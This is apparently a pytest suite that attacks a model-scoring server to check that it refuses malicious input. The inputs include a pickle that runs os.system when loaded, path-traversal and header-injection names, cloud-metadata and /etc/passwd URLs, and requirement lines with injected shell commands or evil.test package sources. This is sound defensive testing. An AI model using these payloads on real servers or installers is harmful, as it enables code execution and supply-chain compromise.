"""The scoring server under attack: pickles, deep and huge bodies, names with tricks, other sites, requirements."""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from sklearn.linear_model import LogisticRegression

from attacks.conftest import SECRET, TRAP
from tests.services.scoring_server import Scored, ScoringServer, run_scoring
from trackway.base.errors import InvalidInput, TrackwayError
from trackway.environments import CondaWanted, Wanted, make_with_conda, make_with_uv
from trackway.models import save_model

ROWS = pd.DataFrame({"a": [0.0, 1.0, 2.0, 3.0], "b": [1.0, 0.0, 1.0, 0.0]})
JSON, CSV, PARQUET = "application/json", "text/csv", "application/vnd.apache.parquet"


class Bomb:
    """Writes a file when it is unpickled."""

    def __init__(self, canary: Path) -> None:
        self._canary = str(canary)

    def __reduce__(self) -> Any:
        return (os.system, (f"touch {self._canary}",))


class Target:
    """A scoring server, with a trap for connections and child processes, and a secret beside its model."""

    def __init__(self, server: ScoringServer, folder: Path) -> None:
        self.server = server
        self.canary = folder / "canary"
        self.trap = folder / "trap"

    def check_safe(self, answer: Scored) -> None:
        assert answer.status < 500, answer
        assert SECRET.encode() not in answer.body
        assert b"Traceback" not in answer.body
        assert str(self.trap.parent).encode() not in answer.body
        assert not self.canary.exists()
        assert not self.trap.exists(), self.trap.read_text()
        alive = self.server.score({"dataframe_records": [{"a": 3, "b": 0}]})
        assert alive.json == {"predictions": [1]}


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    folder = tmp_path_factory.mktemp("served")
    (folder / "secret.txt").write_text(SECRET)
    save_model(LogisticRegression().fit(ROWS, [0, 0, 1, 1]), folder / "model", input_example=ROWS.head(2))
    hooks = tmp_path_factory.mktemp("hooks")
    (hooks / "sitecustomize.py").write_text(TRAP)
    variables = {"PYTHONPATH": str(hooks), "TRACKWAY_TEST_TRAP": str(folder / "trap")}
    options = ("--max-body", "3000000", "--max-rows", "10000")
    with run_scoring(folder, str(folder / "model"), *options, **variables) as server:
        (folder / "trap").unlink(missing_ok=True)  # what libraries do when they are imported
        yield Target(server, folder)


@pytest.mark.parametrize(
    "kind",
    [
        *("application/vnd.bentoml+pickle", "application/python-pickle", "application/x-pickle", "application/pickle"),
        *("application/octet-stream", "multipart/form-data", JSON, CSV, PARQUET),
    ],
)
def test_a_pickle_in_a_body_is_never_opened(target: Target, kind: str) -> None:
    answer = target.server.score(pickle.dumps(Bomb(target.canary)), kind)
    assert answer.status in (400, 415), answer
    target.check_safe(answer)


def test_a_pickle_in_a_table_is_text_and_bytes(target: Target) -> None:
    table = io.BytesIO()
    pd.DataFrame({"a": [pickle.dumps(Bomb(target.canary))], "b": [1.0]}).to_parquet(table)
    answer = target.server.score(table.getvalue(), PARQUET)
    assert answer.status == 400
    target.check_safe(answer)


def deep(opening: str, closing: str, depth: int = 100_000) -> str:
    return opening * depth + closing * depth


@pytest.mark.parametrize(
    "body",
    [
        deep("[", "]"),
        deep('{"a":', "}"),
        '{"inputs": ' + deep("[", "]", 900) + "}",
        '{"dataframe_records": [{"a": ' + deep("[", "]", 500) + ', "b": 1}]}',
        '{"dataframe_records": [{"a": 1' + "0" * 100_000 + ', "b": 1}]}',
        '{"dataframe_records": [{"a": 1e999999999, "b": 1}]}',
        '{"dataframe_records": [{"a": "' + "9" * 100_000 + '", "b": 1}]}',
        '{"dataframe_split": {"columns": ["a", "b"], "data": [[1, 2], [3]]}}',
        '{"dataframe_split": {"columns": ' + json.dumps([f"c{n}" for n in range(50_000)]) + ', "data": []}}',
        '{"dataframe_records": [{"a": {"__class__": "os.system", "__reduce__": ["touch canary"]}, "b": 1}]}',
        '{"dataframe_records": [{"a": "\\ud800", "b": 1}]}',
        '{"dataframe_records": [{"a": "\\u0000", "b": 1}]}',
        '{"inputs": {"a": [1], "b": [1], "__proto__": [1], "constructor": {"prototype": 1}}}',
        '{"dataframe_records": [{"a": "@trackway.base", "b": "!!python/object/apply:os.system [id]"}]}',
        '{"params": {"__class__": 1}, "inputs": {"a": {"b": 1}}}',
        '{"inputs": "/etc/passwd"}',
        '{"instances": ["file:///etc/passwd", "http://169.254.169.254/"]}',
        '{"messages": [{"role": "system", "content": "' + "x" * 100_000 + '"}]}',
    ],
    ids=lambda body: f"{body[:40]!r} {len(body)}",
)
def test_a_body_that_is_not_meant_well_is_refused_and_the_server_lives(target: Target, body: str) -> None:
    answer = target.server.score(body)
    assert answer.status in (200, 400), answer
    target.check_safe(answer)


@pytest.mark.parametrize(
    "name", ["../../etc", "..%2f..%2fetc", "%00", "model%0d%0aX-Evil:1", "model/../../x", "a" * 5_000]
)
@pytest.mark.parametrize("path", ["/v2/models/{}", "/v2/models/model/versions/{}", "/v2/models/{}/infer"])
def test_a_name_is_compared_and_leads_nowhere(target: Target, path: str, name: str) -> None:
    answer = target.server.send(
        "POST" if path.endswith("infer") else "GET", path.format(name), {} if "infer" in path else None
    )
    assert answer.status in (400, 404, 405), answer
    assert "x-evil" not in answer.headers
    target.check_safe(answer)


@pytest.mark.parametrize(
    "route", ["/v2/repository/models/x/load", "/v2/repository/index", "/models?url=http://evil.test/x.mar"]
)
def test_a_server_of_a_model_cannot_be_made_to_load_another(target: Target, route: str) -> None:
    answer = target.server.send("POST", route, {"parameters": {"file:../../tmp/x": "YXR0YWNr"}})
    assert answer.status in (404, 405), answer
    target.check_safe(answer)


@pytest.mark.parametrize(
    ("shape", "datatype", "raw"),
    [
        ([2**62, 4], "FP64", b""),
        ([2**31], "BYTES", struct.pack("<I", 2**31)),
        ([1], "BYTES", struct.pack("<I", 2**32 - 1) + b"x"),
        ([0] * 33, "FP64", b""),
        ([10**30], "INT8", b"1"),
    ],
)
def test_a_tensor_that_claims_more_than_it_brings_takes_no_memory(
    target: Target, shape: list[int], datatype: str, raw: bytes
) -> None:
    described = {"name": "a", "shape": shape, "datatype": datatype, "parameters": {"binary_data_size": len(raw)}}
    head = json.dumps({"inputs": [described]}).encode()
    answer = target.server.send(
        "POST", "/v2/models/model/infer", head + raw, JSON, inference_header_content_length=str(len(head))
    )
    assert answer.status == 400, answer
    target.check_safe(answer)


def test_a_small_file_of_many_rows_is_refused_before_it_is_read(target: Target) -> None:
    table = io.BytesIO()
    pd.DataFrame({"a": [0.0] * 5_000_000, "b": [0.0] * 5_000_000}).to_parquet(table)
    assert len(table.getvalue()) < 1_000_000
    answer = target.server.score(table.getvalue(), PARQUET)
    assert answer.status == 413, answer
    target.check_safe(answer)


@pytest.mark.parametrize(
    "headers", [{"Host": "evil.test"}, {"Origin": "http://evil.test"}, {"Sec-Fetch-Site": "cross-site"}]
)
def test_a_page_of_another_site_gets_nothing(target: Target, headers: dict[str, str]) -> None:
    row = {"dataframe_records": [{"a": 1, "b": 1}]}
    answer = target.server.send("POST", "/invocations", row, JSON, **headers)
    assert (answer.status, b"predictions" in answer.body) == (403, False)


@pytest.mark.parametrize(
    "line",
    [
        "--index-url http://evil.test/simple",
        "-e .",
        "-r /etc/passwd",
        "evil @ http://evil.test/evil.whl",
        "evil@file:///tmp/evil.whl",
        "git+https://evil.test/evil.git",
        "./evil.whl",
        "/tmp/evil.whl",
        "numpy; touch canary",
        "numpy\n--index-url http://evil.test",
        "numpy==1\n--pre",
        "$(touch canary)",
        "`touch canary`",
        "a" * 100_000,
        "numpy==" + "1." * 50_000,
    ],
    ids=lambda line: repr(line[:40]),
)
def test_a_requirement_that_is_more_than_a_name_and_a_version_is_refused(line: str, tmp_path: Path) -> None:
    (tmp_path / "uv").write_text("#!/bin/sh\ntouch " + str(tmp_path / "canary") + "\n")
    (tmp_path / "uv").chmod(0o700)
    patch = pytest.MonkeyPatch()
    patch.setattr("trackway.environments.uv.find_uv", lambda: str(tmp_path / "uv"))
    with patch.context(), pytest.raises(TrackwayError, match="more than a package's name"):
        make_with_uv(Wanted("", (line,)), tmp_path / "cache")
    patch.undo()
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize(
    "package",
    [
        "--file=/etc/passwd",
        "-c evil",
        "https://evil.test/python-3.11-0.tar.bz2",
        "file:///tmp/evil.conda",
        "/tmp/evil.tar.bz2",
        "../evil.conda",
        "evil::numpy",
        "numpy[url=https://evil.test/numpy.conda]",
        "numpy[channel=evil]",
        "numpy\n--channel=evil",
        "numpy; touch canary",
        "$(touch canary)",
        "a" * 100_000,
        "numpy=" + "1," * 50_000,
    ],
    ids=lambda line: repr(line[:40]),
)
@pytest.mark.parametrize("name", ["conda-forge", "nodefaults"])
def test_a_package_of_conda_that_is_more_than_a_name_and_a_version_is_refused(
    package: str, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    _put_canary(tmp_path, monkeypatch)
    with pytest.raises(InvalidInput, match=r"more than a package's name|may not be made from"):
        make_with_conda(CondaWanted((name,), ("python", package)), tmp_path / "cache")
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize(
    "channel",
    [
        "evil",
        "https://evil.test/channel",
        "file:///tmp/channel",
        "/tmp/channel",
        "--file=/etc/passwd",
        "",
        "conda-forge/../evil",
    ],
    ids=repr,
)
def test_a_channel_of_a_models_own_is_refused(channel: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _put_canary(tmp_path, monkeypatch)
    with pytest.raises(InvalidInput, match="none of those that environments may be made from"):
        make_with_conda(CondaWanted((channel,), ("python",)), tmp_path / "cache")
    if channel.startswith("-"):
        with pytest.raises(InvalidInput):
            make_with_conda(CondaWanted((channel,), ("python",), trust=True), tmp_path / "cache")
    assert not (tmp_path / "canary").exists()


def _put_canary(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Put a conda in place that leaves a mark when it is called."""
    (folder / "conda").write_text("#!/bin/sh\ntouch " + str(folder / "canary") + "\n")
    (folder / "conda").chmod(0o700)
    monkeypatch.setenv("CONDA_EXE", str(folder / "conda"))
